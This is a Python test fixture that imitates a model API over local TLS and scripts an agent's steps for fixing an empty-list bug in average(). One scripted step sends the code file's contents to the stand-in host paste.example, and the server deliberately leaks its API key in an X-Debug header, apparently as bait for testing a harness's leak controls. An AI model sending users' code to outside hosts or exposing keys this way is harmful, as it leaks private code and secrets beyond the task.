"""Plays a model's API on this computer: a TLS server whose answers are written down below.

python model_api.py -- COMMAND...   runs a command that finds it at $MODEL_ADDRESS, trusts its certificate
                                    ($SSL_CERT_FILE) and has a key for it ($MODEL_API_KEY)
"""

import http.server
import json
import os
import secrets
import ssl
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import trustme

HOST = "api.model.example"
MENDED = '''"""Numbers."""


def average(numbers):
    """Return the mean of some numbers, 0 of none."""
    return sum(numbers) / len(numbers) if numbers else 0
'''


def next_step(results):
    """Return what the agent is to do after the results so far: a model that always says the same."""
    steps = [
        ("Let me see what fails.", "run", [["python", "-m", "pytest", "-q", "-p", "no:cacheprovider"]]),
        ("Let me look at the code.", "read", ["numbers_.py"]),
        ("Let me ask somebody else, too.", "fetch", ["https://paste.example/", "".join(results[1:2])]),
        ("Nobody there. I see: an empty list.", "write", ["numbers_.py", MENDED]),
        ("Does that help?", "run", [["python", "-m", "pytest", "-q", "-p", "no:cacheprovider"]]),
        ("It does.", "run", [["git", "commit", "-qam", "average() of no numbers is 0"]]),
        ("Done.", "done", []),
    ]
    say, tool, arguments = steps[len(results)]
    return {"say": say, "tool": tool, "arguments": arguments}


class Handler(http.server.BaseHTTPRequestHandler):
    """Answers those who have the key."""

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.heard.append(asked)
        if self.headers["Authorization"] != f"Bearer {self.server.key}":
            self.send_error(401, "that is not the key")
            return
        body = json.dumps(next_step(asked["results"])).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Debug", f"key {self.server.key}")  # a server that talks too much
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class ModelApi(http.server.ThreadingHTTPServer):
    """The server; as a context manager it serves.

    Args:
        key: The key that it wants to be shown.
        folder: Where its certificate authority is written to, as ``ca.pem``.
    """

    def __init__(self, key, folder):
        super().__init__(("127.0.0.1", 0), Handler)
        self.key = key
        self.heard = []
        self.address = f"127.0.0.1:{self.server_address[1]}"
        authority = trustme.CA()
        self.certificates = Path(folder) / "ca.pem"
        authority.cert_pem.write_to_path(self.certificates)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        authority.issue_cert(HOST).configure_cert(context)
        self.socket = context.wrap_socket(self.socket, server_side=True)
        self._thread = threading.Thread(target=self.serve_forever, args=(0.01,))

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self.shutdown()
        self._thread.join()
        self.server_close()


def main():
    with tempfile.TemporaryDirectory() as folder, ModelApi(secrets.token_urlsafe(24), folder) as api:
        environment = {
            "MODEL_ADDRESS": api.address, "SSL_CERT_FILE": str(api.certificates), "MODEL_API_KEY": api.key,
        }  # fmt: skip
        return subprocess.run(sys.argv[2:], env=os.environ | environment, check=False).returncode


if __name__ == "__main__":
    sys.exit(main())
